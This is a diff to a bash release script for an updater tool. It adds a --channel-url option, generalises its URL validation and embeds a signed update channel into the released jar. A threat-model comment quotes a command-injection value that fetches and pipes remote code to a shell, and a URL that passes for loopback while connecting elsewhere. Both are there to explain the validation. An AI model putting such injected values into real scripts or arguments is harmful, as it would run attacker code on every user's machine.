@@ -4,7 +4,7 @@
 # and install.sh downloads. Run by .github/workflows/release.yml on a v* tag, and locally with a test
 # key (sidecar/src/test/java/dev/updater/sidecar/ship/ReleaseScriptIT.java does exactly that).
 #
-# Usage: scripts/release.sh --key KEYFILE --out DIR [--version V] [--base-url URL]
+# Usage: scripts/release.sh --key KEYFILE --out DIR [--version V] [--base-url URL] [--channel-url URL]
 #                           [--verify-key PUB] [--expires-in DURATION] [--latest] [--no-build]
 #
 #   --key KEYFILE        Ed25519 private key (updater-sidecar keygen, or an OpenSSL PEM key)
@@ -14,6 +14,10 @@
 #   --base-url URL       where DIR will be served, e.g. https://github.com/OWNER/REPO/releases;
 #                        baked into the released install.sh as its default (default: none, so
 #                        users of that install.sh must pass --base-url); a plain https:// URL
+#   --channel-url URL    where DIR/manifest.json (the channel below) will be served, e.g.
+#                        https://updates.example.com/updater/manifest.json; built into the released
+#                        updater-sidecar.jar with the signing key's public key, for 'self-update' and
+#                        'status' (default: none, so the jars carry no channel); a plain https:// URL
 #   --verify-key PUB     the public key the channel must verify with: a .pub file or an
 #                        ed25519:... line (default: the signing key's own)
 #   --expires-in DURATION  hosts refuse the channel's manifest after this long; renew it with
@@ -31,7 +35,8 @@
 #   DIR/latest/download/   the same files for the newest release (GitHub's releases/latest/download/;
 #                          like GitHub, pre-releases do not become the latest unless --latest)
 #   DIR/manifest.json, DIR/manifest.json.sig, DIR/V/any/updater-sidecar.jar
-#                          the signed channel of updater-sidecar.jar, as 'publish' writes it
+#                          the signed channel of updater-sidecar.jar, as 'publish' writes it: the
+#                          updater's own channel, which 'self-update' checks at --channel-url
 #
 # Needs Java 17+ and OpenSSL 3 (to sign SHA256SUMS).
 # Exit status: 0 released; 1 failed (one line says why; DIR must then not be uploaded); 2 bad usage.
@@ -47,13 +52,14 @@ key=""
 out=""
 version=""
 base_url=""
+channel_url=""
 verify_key=""
 expires_in=""
 latest=auto
 build=true
 
 usage() {
-  sed -n '7,23p' "$0" | sed 's/^# \{0,1\}//' >&2
+  sed -n '7,26p' "$0" | sed 's/^# \{0,1\}//' >&2
   exit 2
 }
 
@@ -81,6 +87,7 @@ parse_arguments() {
       --out) [ $# -ge 2 ] || usage; out="$2"; shift 2 ;;
       --version) [ $# -ge 2 ] || usage; version="${2#v}"; shift 2 ;;
       --base-url) [ $# -ge 2 ] || usage; base_url="${2%/}"; shift 2 ;;
+      --channel-url) [ $# -ge 2 ] || usage; channel_url="$2"; shift 2 ;;
       --verify-key) [ $# -ge 2 ] || usage; verify_key="$2"; shift 2 ;;
       --expires-in) [ $# -ge 2 ] || usage; expires_in="$2"; shift 2 ;;
       --latest) latest=true; shift ;;
@@ -96,20 +103,22 @@ parse_arguments() {
     ''|ed25519:*) ;;
     *) [ -f "$verify_key" ] || fail "the public key file $verify_key does not exist." ;;
   esac
-  check_base_url
+  check_plain_url --base-url "$base_url"
+  check_plain_url --channel-url "$channel_url"
   check_openssl
 }
 
-# The base URL is written into the released install.sh, which users run: only a plain URL passes.
-# Threat: --base-url 'https://x/$(curl evil|sh)' or a backquote, a quote or a backslash that would
-# turn into a command run by everyone who executes that install.sh; "http://127.0.0.1:@192.0.2.1"
-# that passes for loopback while it connects elsewhere.
-check_base_url() {
+# The base URL is written into the released install.sh, which users run, and the channel URL into
+# the released jar: only a plain URL passes. Threat: --base-url 'https://x/$(curl evil|sh)' or a
+# backquote, a quote or a backslash that would turn into a command run by everyone who executes that
+# install.sh; "http://127.0.0.1:@192.0.2.1" that passes for loopback while it connects elsewhere.
+check_plain_url() {
+  local option="$1" url="$2"
   local path='(/[A-Za-z0-9._~/%+=,:-]*)?$'
   local https_url="^https://[A-Za-z0-9.-]+(:[0-9]{1,5})?$path"
   local loopback_url="^http://(127\.0\.0\.1|localhost|\[::1\])(:[0-9]{1,5})?$path"
-  if [ -n "$base_url" ] && ! [[ $base_url =~ $https_url || $base_url =~ $loopback_url ]]; then
-    fail "--base-url ${base_url//[^[:print:]]/?} is not a plain URL: give https://HOST[:PORT]/PATH (plain http only to 127.0.0.1, localhost or [::1]) without a user name, the path in letters, digits and ._~/%+=,:- only; it is written into the released install.sh."
+  if [ -n "$url" ] && ! [[ $url =~ $https_url || $url =~ $loopback_url ]]; then
+    fail "$option ${url//[^[:print:]]/?} is not a plain URL: give https://HOST[:PORT]/PATH (plain http only to 127.0.0.1, localhost or [::1]) without a user name, the path in letters, digits and ._~/%+=,:- only; it is written into the released $([ "$option" = --base-url ] && echo install.sh || echo updater-sidecar.jar)."
   fi
 }
 
@@ -159,6 +168,30 @@ stage_files() {
     fail "the agent jar inside $sidecar_jar differs from $built_agent: they come from different builds; build both with './mvnw package'."
   fi
   printf '%s\n' "$version" > "$staging/VERSION"
+}
+
+# With --channel-url, the released sidecar jar carries its own channel: the URL and the signing key's
+# public key, in dev/updater/sidecar/self-update.properties (SelfUpdateChannel reads it), added with
+# the JDK's jar tool before the jar is published, so the manifest signs the jar that carries them.
+build_channel_into_jar() {
+  [ -n "$channel_url" ] || return 0
+  local jar_tool public_key resources
+  jar_tool="$(dirname "$(command -v "$JAVA_CMD")")/jar"
+  [ -x "$jar_tool" ] || jar_tool="$(command -v jar)" \
+    || fail "--channel-url needs the JDK's jar tool (beside $JAVA_CMD or on PATH); run with a JDK."
+  public_key="$(openssl pkey -in "$key" -pubout | sed '/-----/d' | tr -d '\n')" \
+    || fail "openssl could not read the public key of $key (see above)."
+  [[ $public_key =~ ^[A-Za-z0-9+/=]+$ ]] || fail "openssl printed no public key for $key."
+  resources="$(mktemp -d)"
+  mkdir -p "$resources/dev/updater/sidecar"
+  {
+    printf '# The updater'"'"'s own release channel, written by scripts/release.sh (docs/sidecar.md#self-update)\n'
+    printf 'manifest=%s\n' "$channel_url"
+    printf 'key=ed25519:%s\n' "$public_key"
+  } > "$resources/dev/updater/sidecar/self-update.properties"
+  "$jar_tool" --update --file "$staging/updater-sidecar.jar" -C "$resources" dev/updater/sidecar/self-update.properties \
+    || { rm -rf "$resources"; fail "could not add the channel to updater-sidecar.jar (see above)."; }
+  rm -rf "$resources"
 }
 
 # Publishes the sidecar jar into the channel at DIR's root with the project's own CLI, then checks
@@ -252,6 +285,7 @@ main() {
   build_jars
   check_version
   stage_files
+  build_channel_into_jar
   publish_channel
   write_installer
   write_checksums
